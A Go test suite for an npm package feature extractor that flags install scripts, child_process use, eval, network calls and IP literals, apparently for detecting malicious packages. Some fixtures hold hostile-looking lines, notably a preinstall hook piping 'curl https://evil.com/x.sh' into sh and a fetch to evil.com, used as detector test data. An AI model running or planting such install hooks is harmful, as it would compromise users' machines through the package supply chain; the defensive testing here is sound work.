package extract

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kluth/npm-feature-extractor/internal/cache"
	"github.com/kluth/npm-feature-extractor/internal/features"
	"github.com/kluth/npm-feature-extractor/internal/manifest"
	"github.com/kluth/npm-feature-extractor/internal/tarball"
)

func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
		require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	}
}

func newPackage(t *testing.T, files map[string]string) string {
	t.Helper()
	dir, err := filepath.Abs(t.TempDir())
	require.NoError(t, err)
	writeFiles(t, dir, files)
	return dir
}

func extract(t *testing.T, opts Options, dir string) *Result {
	t.Helper()
	e, err := New(opts)
	require.NoError(t, err)
	res, err := e.Extract(context.Background(), dir)
	require.NoError(t, err)
	return res
}

func TestExtractInstallScriptRequiresChildProcess(t *testing.T) {
	dir := newPackage(t, map[string]string{
		"package.json": `{"name":"evil","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}`,
		"setup.js":     `const cp = require('child_process');`,
	})
	res := extract(t, Options{}, dir)
	rec := res.Features

	assert.True(t, rec.Has(features.HasInstallScripts))
	assert.True(t, rec.Has(features.RequireChildProcessInJSFile))
	assert.True(t, rec.Has(features.RequireChildProcessInInstallScript))
	assert.Equal(t, []string{"node setup.js"}, rec.InstallCommands)
	assert.Equal(t, []string{filepath.Join(dir, "setup.js")}, rec.ExecuteJSFiles)
	assert.Equal(t, 1, rec.Stats.FilesVisited)

	general := res.Positions.Get(features.RequireChildProcessInJSFile)
	variant := res.Positions.Get(features.RequireChildProcessInInstallScript)
	require.Len(t, general, 1)
	require.Len(t, variant, 1)
	assert.Equal(t, general[0], variant[0])
	assert.Equal(t, filepath.Join(dir, "setup.js"), general[0].FilePath)

	hook := res.Positions.Get(features.HasInstallScripts)
	require.Len(t, hook, 1)
	assert.Equal(t, "node setup.js", hook[0].Literal)
}

func TestExtractIPLiteral(t *testing.T) {
	dir := newPackage(t, map[string]string{
		"package.json": `{"name":"a","version":"1.0.0"}`,
		"index.js":     `const host = "104.16.85.20";`,
	})
	res := extract(t, Options{}, dir)

	assert.True(t, res.Features.Has(features.ContainIP))
	assert.False(t, res.Features.Has(features.HasInstallScripts))
	pos := res.Positions.Get(features.ContainIP)
	require.Len(t, pos, 1)
	require.NotNil(t, pos[0].Range)
	assert.Equal(t, 1, pos[0].Range.Start.Line)
	assert.Equal(t, filepath.Join(dir, "index.js"), pos[0].FilePath)
}

func TestExtractEval(t *testing.T) {
	dir := newPackage(t, map[string]string{
		"package.json": `{"name":"a","version":"1.0.0"}`,
		"lib/run.js":   "function run(userInput) {\n  return eval(userInput);\n}\n",
	})
	res := extract(t, Options{}, dir)

	assert.Equal(t, []features.Flag{features.UseEval}, res.Features.Raised())
	pos := res.Positions.Get(features.UseEval)
	require.Len(t, pos, 1)
	assert.Equal(t, 2, pos[0].Range.Start.Line)
}

func TestExtractManifestWithoutScripts(t *testing.T) {
	dir := newPackage(t, map[string]string{
		"package.json": `{"name":"plain","version":"2.1.0","dependencies":{"a":"1","b":"2"},"devDependencies":{"c":"3"}}`,
	})
	res := extract(t, Options{}, dir)
	rec := res.Features

	assert.Equal(t, "plain", rec.PackageName)
	assert.Equal(t, "2.1.0", rec.Version)
	assert.Equal(t, 2, rec.DependencyCount)
	assert.Equal(t, 1, rec.DevDependencyCount)
	assert.Empty(t, rec.Raised())
	assert.Empty(t, rec.InstallCommands)
	assert.Empty(t, rec.ExecuteJSFiles)
	assert.Zero(t, res.Positions.Len())
	assert.Zero(t, rec.Stats.AverageSyntaxNodes())
}

func TestExtractOversizeFile(t *testing.T) {
	big := "eval(x);\n" + strings.Repeat("// padding\n", 3<<20/11)
	dir := newPackage(t, map[string]string{
		"package.json": `{"name":"a","version":"1.0.0"}`,
		"big.js":       big,
	})
	res := extract(t, Options{}, dir)

	assert.Empty(t, res.Features.Raised())
	assert.Equal(t, 1, res.Features.Stats.FilesVisited)
	assert.Equal(t, 1, res.Features.Stats.FilesOversized)
	assert.Zero(t, res.Features.Stats.FilesAnalyzed)
}

func TestExtractCeilingInclusive(t *testing.T) {
	src := "eval(x);"
	dir := newPackage(t, map[string]string{
		"package.json": `{"name":"a","version":"1.0.0"}`,
		"a.js":         src,
	})
	res := extract(t, Options{MaxFileSize: int64(len(src))}, dir)
	assert.True(t, res.Features.Has(features.UseEval))

	res = extract(t, Options{MaxFileSize: int64(len(src) - 1)}, dir)
	assert.False(t, res.Features.Has(features.UseEval))
}

func TestExtractPrunesNodeModules(t *testing.T) {
	dir := newPackage(t, map[string]string{
		"package.json":               `{"name":"a","version":"1.0.0"}`,
		"index.js":                   `module.exports = 1;`,
		"node_modules/dep/index.js":  `eval(x);`,
		"lib/node_modules/x/a.js":    `require("child_process");`,
		"lib/node_modules_backup.js": `process.env.HOME`,
	})
	res := extract(t, Options{}, dir)

	assert.Equal(t, []features.Flag{features.AccessProcessEnvInJSFile}, res.Features.Raised())
	assert.Equal(t, 2, res.Features.Stats.FilesVisited)

	e, err := New(Options{})
	require.NoError(t, err)
	entries, err := walk(context.Background(), filepath.Join(dir, "node_modules"), e.selector)
	require.NoError(t, err)
	assert.Empty(t, entries)
}

func TestExtractSelection(t *testing.T) {
	dir := newPackage(t, map[string]string{
		"package.json":        `{"name":"a","version":"1.0.0","scripts":{"install":"node scripts/build.cjs"}}`,
		"scripts/build.cjs":   `require("https")`,
		"README.md":           `eval(x)`,
		"types.mjs":           `process.env.X`,
		"test/fixture.js":     `os.homedir()`,
		"dist/bundle.min.js":  `new Buffer(1)`,
		"dist/nested/keep.js": `Buffer.from(x)`,
	})

	res := extract(t, Options{}, dir)
	rec := res.Features
	assert.True(t, rec.Has(features.AccessNetworkInJSFile))
	assert.True(t, rec.Has(features.AccessNetworkInInstallScript))
	assert.False(t, rec.Has(features.UseEval))
	assert.False(t, rec.Has(features.AccessProcessEnvInJSFile))
	assert.True(t, rec.Has(features.AccessSensitiveAPI))
	assert.True(t, rec.Has(features.UseBuffer))

	res = extract(t, Options{Extensions: []string{"mjs"}, Exclude: []string{"dist/**", "test"}}, dir)
	rec = res.Features
	assert.True(t, rec.Has(features.AccessProcessEnvInJSFile))
	assert.True(t, rec.Has(features.AccessNetworkInInstallScript))
	assert.False(t, rec.Has(features.AccessSensitiveAPI))
	assert.False(t, rec.Has(features.UseBuffer))
	assert.Equal(t, 2, rec.Stats.FilesVisited)
}

func TestExtractSkipsSymlinks(t *testing.T) {
	dir := newPackage(t, map[string]string{
		"package.json": `{"name":"a","version":"1.0.0"}`,
	})
	outside := newPackage(t, map[string]string{"evil.js": `eval(x)`})
	if err := os.Symlink(filepath.Join(outside, "evil.js"), filepath.Join(dir, "link.js")); err != nil {
		t.Skipf("symlinks unsupported: %v", err)
	}
	require.NoError(t, os.Symlink(outside, filepath.Join(dir, "linked")))

	res := extract(t, Options{}, dir)
	assert.Empty(t, res.Features.Raised())
	assert.Zero(t, res.Features.Stats.FilesVisited)
}

func TestExtractHookCommand(t *testing.T) {
	dir := newPackage(t, map[string]string{
		"package.json": `{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl https://evil.com/x.sh | sh","postinstall":"node missing.js"}}`,
	})
	res := extract(t, Options{}, dir)
	rec := res.Features

	assert.True(t, rec.Has(features.HasInstallScripts))
	assert.True(t, rec.Has(features.ContainDomainInInstallScript))
	assert.True(t, rec.Has(features.ContainDomainInJSFile))
	assert.True(t, rec.Has(features.AccessNetworkInInstallScript))
	assert.True(t, rec.Has(features.AccessNetworkInJSFile))
	assert.Empty(t, rec.ExecuteJSFiles)
	assert.Equal(t, []string{"curl https://evil.com/x.sh | sh", "node missing.js"}, rec.InstallCommands)

	pos := res.Positions.Get(features.AccessNetworkInInstallScript)
	require.Len(t, pos, 1)
	assert.Equal(t, "curl https://evil.com/x.sh | sh", pos[0].Literal)
	assert.Equal(t, filepath.Join(dir, manifest.FileName), pos[0].FilePath)
}

func TestExtractParseFailure(t *testing.T) {
	dir := newPackage(t, map[string]string{
		"package.json": `{"name":"a","version":"1.0.0"}`,
		"bad.js":       `eval(x); function ( {`,
		"good.js":      `process.env.A`,
	})
	res := extract(t, Options{}, dir)
	assert.False(t, res.Features.Has(features.UseEval))
	assert.True(t, res.Features.Has(features.AccessProcessEnvInJSFile))
	assert.Equal(t, 1, res.Features.Stats.ParseFailures)
	assert.Equal(t, 2, res.Features.Stats.FilesAnalyzed)

	res = extract(t, Options{TolerateSyntaxErrors: true}, dir)
	assert.True(t, res.Features.Has(features.UseEval))
	assert.Zero(t, res.Features.Stats.ParseFailures)
}

func TestExtractPositionCap(t *testing.T) {
	files := map[string]string{"package.json": `{"name":"a","version":"1.0.0"}`}
	for _, name := range []string{"a", "b", "c", "d", "e"} {
		files[name+".js"] = "eval(x); eval(y);"
	}
	dir := newPackage(t, files)
	res := extract(t, Options{MaxPositions: 3}, dir)

	pos := res.Positions.Get(features.UseEval)
	require.Len(t, pos, 3)
	assert.Equal(t, filepath.Join(dir, "a.js"), pos[0].FilePath)
	assert.Equal(t, filepath.Join(dir, "a.js"), pos[1].FilePath)
	assert.Equal(t, filepath.Join(dir, "b.js"), pos[2].FilePath)
}

func TestExtractIdempotentAcrossWorkers(t *testing.T) {
	files := map[string]string{
		"package.json": `{"name":"@scope/pkg","version":"0.1.0","scripts":{"postinstall":"node install.js"}}`,
		"install.js":   `require("fs"); fetch("https://evil.com")`,
	}
	for i := 0; i < 20; i++ {
		files[filepath.ToSlash(filepath.Join("lib", string(rune('a'+i))+".js"))] =
			`const k = process.env.TOKEN; require("http"); "104.16.85.20";`
	}
	dir := newPackage(t, files)

	encode := func(r *Result) string {
		rec, err := json.Marshal(r.Features)
		require.NoError(t, err)
		pos, err := json.Marshal(r.Positions)
		require.NoError(t, err)
		return string(rec) + "\n" + string(pos)
	}

	want := encode(extract(t, Options{}, dir))
	assert.Equal(t, want, encode(extract(t, Options{}, dir)))
	assert.Equal(t, want, encode(extract(t, Options{Workers: 8}, dir)))

	c, err := cache.New(16)
	require.NoError(t, err)
	assert.Equal(t, want, encode(extract(t, Options{Workers: 4, Cache: c}, dir)))
	assert.Equal(t, want, encode(extract(t, Options{Workers: 4, Cache: c}, dir)))
	assert.Positive(t, c.Stats().Hits)
}

func TestExtractMissingManifest(t *testing.T) {
	dir := newPackage(t, map[string]string{"index.js": `eval(x)`})
	e, err := New(Options{})
	require.NoError(t, err)
	_, err = e.Extract(context.Background(), dir)
	assert.ErrorIs(t, err, manifest.ErrNoManifest)
}

func TestExtractCancelled(t *testing.T) {
	dir := newPackage(t, map[string]string{
		"package.json": `{"name":"a","version":"1.0.0"}`,
		"a.js":         `eval(x)`,
	})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	e, err := New(Options{})
	require.NoError(t, err)
	_, err = e.Extract(ctx, dir)
	assert.ErrorIs(t, err, context.Canceled)
}

func TestNewRejectsBadExclude(t *testing.T) {
	_, err := New(Options{Exclude: []string{"[unterminated"}})
	assert.Error(t, err)
}

func writeTarball(t *testing.T, path, prefix string, files map[string]string) {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, content := range files {
		require.NoError(t, tw.WriteHeader(&tar.Header{
			Name:     prefix + name,
			Mode:     0o644,
			Size:     int64(len(content)),
			Typeflag: tar.TypeReg,
		}))
		_, err := tw.Write([]byte(content))
		require.NoError(t, err)
	}
	require.NoError(t, tw.Close())
	require.NoError(t, gz.Close())
	require.NoError(t, os.WriteFile(path, buf.Bytes(), 0o644))
}

func TestDiscover(t *testing.T) {
	root := newPackage(t, map[string]string{
		"a/package.json":              `{"name":"a"}`,
		"a/sub/package.json":          `{"name":"nested"}`,
		"b/package/package.json":      `{"name":"b"}`,
		"deep/x/y/package.json":       `{"name":"deep"}`,
		"node_modules/c/package.json": `{"name":"c"}`,
		"notes.txt":                   "",
	})
	writeTarball(t, filepath.Join(root, "d-1.0.0.tgz"), "package/", map[string]string{"package.json": `{}`})

	targets, err := Discover(root, 0)
	require.NoError(t, err)
	assert.Equal(t, []Target{
		{Path: filepath.Join(root, "a")},
		{Path: filepath.Join(root, "b", "package")},
		{Path: filepath.Join(root, "d-1.0.0.tgz"), Archive: true},
		{Path: filepath.Join(root, "deep", "x", "y")},
	}, targets)

	targets, err = Discover(root, 2)
	require.NoError(t, err)
	assert.Len(t, targets, 3)

	single, err := Discover(filepath.Join(root, "a"), 0)
	require.NoError(t, err)
	assert.Equal(t, []Target{{Path: filepath.Join(root, "a")}}, single)
}

func TestBatch(t *testing.T) {
	root := newPackage(t, map[string]string{
		"good/package.json":   `{"name":"good","version":"1.0.0"}`,
		"good/index.js":       `eval(x)`,
		"broken/package.json": `{"name":`,
	})
	archive := filepath.Join(root, "tar-1.0.0.tgz")
	writeTarball(t, archive, "package/", map[string]string{
		"package.json": `{"name":"tar","version":"1.0.0","scripts":{"postinstall":"node hook.js"}}`,
		"hook.js":      `require("child_process")`,
	})

	targets, err := Discover(root, 0)
	require.NoError(t, err)
	require.Len(t, targets, 3)

	e, err := New(Options{})
	require.NoError(t, err)

	got := make(map[string]BatchResult)
	err = e.Batch(context.Background(), targets, 2, tarball.Limits{}, func(r BatchResult) error {
		got[filepath.Base(r.Target.Path)] = r
		return nil
	})
	require.NoError(t, err)
	require.Len(t, got, 3)

	assert.Error(t, got["broken"].Err)
	assert.Nil(t, got["broken"].Result)

	require.NoError(t, got["good"].Err)
	assert.True(t, got["good"].Result.Features.Has(features.UseEval))

	tarRes := got["tar-1.0.0.tgz"]
	require.NoError(t, tarRes.Err)
	rec := tarRes.Result.Features
	assert.True(t, rec.Has(features.RequireChildProcessInInstallScript))
	assert.Equal(t, []string{filepath.Join(archive, "hook.js")}, rec.ExecuteJSFiles)
	pos := tarRes.Result.Positions.Get(features.RequireChildProcessInJSFile)
	require.Len(t, pos, 1)
	assert.Equal(t, filepath.Join(archive, "hook.js"), pos[0].FilePath)
}

func TestBatchCallbackErrorStops(t *testing.T) {
	root := newPackage(t, map[string]string{
		"a/package.json": `{"name":"a"}`,
		"b/package.json": `{"name":"b"}`,
	})
	targets, err := Discover(root, 0)
	require.NoError(t, err)

	e, err := New(Options{})
	require.NoError(t, err)
	stop := errors.New("stop")
	err = e.Batch(context.Background(), targets, 1, tarball.Limits{}, func(BatchResult) error {
		return stop
	})
	assert.ErrorIs(t, err, stop)
}

func TestWalkErrorUnwrap(t *testing.T) {
	err := &WalkError{Path: "/x", Err: os.ErrPermission}
	assert.ErrorIs(t, err, os.ErrPermission)
	assert.Contains(t, err.Error(), "/x")
}

func TestExtractSymlinkedRoot(t *testing.T) {
	target := newPackage(t, map[string]string{
		"package.json": `{"name":"left-pad","version":"1.3.0","scripts":{"postinstall":"node setup.js"}}`,
		"setup.js":     `require("child_process")`,
	})
	link := filepath.Join(newPackage(t, nil), "left-pad")
	if err := os.Symlink(target, link); err != nil {
		t.Skipf("symlinks unsupported: %v", err)
	}

	res := extract(t, Options{}, link)
	rec := res.Features
	assert.Equal(t, "left-pad@1.3.0", rec.ID())
	assert.True(t, rec.Has(features.RequireChildProcessInInstallScript))
	assert.Equal(t, []string{filepath.Join(link, "setup.js")}, rec.ExecuteJSFiles)

	pos := res.Positions.Get(features.RequireChildProcessInJSFile)
	require.Len(t, pos, 1)
	assert.Equal(t, filepath.Join(link, "setup.js"), pos[0].FilePath)
	hook := res.Positions.Get(features.HasInstallScripts)
	require.Len(t, hook, 1)
	assert.Equal(t, filepath.Join(link, manifest.FileName), hook[0].FilePath)
}

func TestDiscoverSymlinkedPackage(t *testing.T) {
	outside := newPackage(t, map[string]string{"package.json": `{"name":"linked"}`})
	root := newPackage(t, map[string]string{"a/package.json": `{"name":"a"}`})
	if err := os.Symlink(outside, filepath.Join(root, "linked")); err != nil {
		t.Skipf("symlinks unsupported: %v", err)
	}

	targets, err := Discover(root, 0)
	require.NoError(t, err)
	assert.Equal(t, []Target{
		{Path: filepath.Join(root, "a")},
		{Path: filepath.Join(root, "linked")},
	}, targets)
}

func TestUnreadableDirectoryAbortsScan(t *testing.T) {
	if runtime.GOOS == "windows" || os.Geteuid() == 0 {
		t.Skip("directory permissions are not enforced")
	}
	root := newPackage(t, map[string]string{
		"a/package.json": `{"name":"a","version":"1.0.0"}`,
		"a/index.js":     `eval(x)`,
		"a/lib/util.js":  `require("fs")`,
		"b/package.json": `{"name":"b","version":"1.0.0"}`,
		"b/index.js":     `eval(y)`,
	})
	locked := filepath.Join(root, "a", "lib")
	require.NoError(t, os.Chmod(locked, 0))
	t.Cleanup(func() { os.Chmod(locked, 0o755) })

	e, err := New(Options{})
	require.NoError(t, err)

	_, err = e.Extract(context.Background(), filepath.Join(root, "a"))
	var walkErr *WalkError
	require.ErrorAs(t, err, &walkErr)
	assert.Contains(t, walkErr.Path, "lib")

	targets, err := Discover(root, 0)
	require.NoError(t, err)
	require.Len(t, targets, 2)

	got := make(map[string]BatchResult)
	err = e.Batch(context.Background(), targets, 2, tarball.Limits{}, func(r BatchResult) error {
		got[filepath.Base(r.Target.Path)] = r
		return nil
	})
	require.NoError(t, err)

	assert.ErrorAs(t, got["a"].Err, &walkErr)
	assert.Nil(t, got["a"].Result)
	require.NoError(t, got["b"].Err)
	assert.True(t, got["b"].Result.Features.Has(features.UseEval))
}

func TestExtractTargetLogsArchiveFiles(t *testing.T) {
	root := newPackage(t, nil)
	archive := filepath.Join(root, "pkg-1.0.0.tgz")
	writeTarball(t, archive, "package/", map[string]string{
		"package.json": `{"name":"pkg","version":"1.0.0"}`,
		"index.js":     `eval(x)`,
	})

	var logs bytes.Buffer
	logger := slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	e, err := New(Options{Logger: logger})
	require.NoError(t, err)

	res, err := e.ExtractTarget(context.Background(), TargetFor(archive), tarball.Limits{})
	require.NoError(t, err)
	assert.True(t, res.Features.Has(features.UseEval))
	assert.Contains(t, logs.String(), `msg="unpacked archive"`)
	assert.Contains(t, logs.String(), "files=2")
}
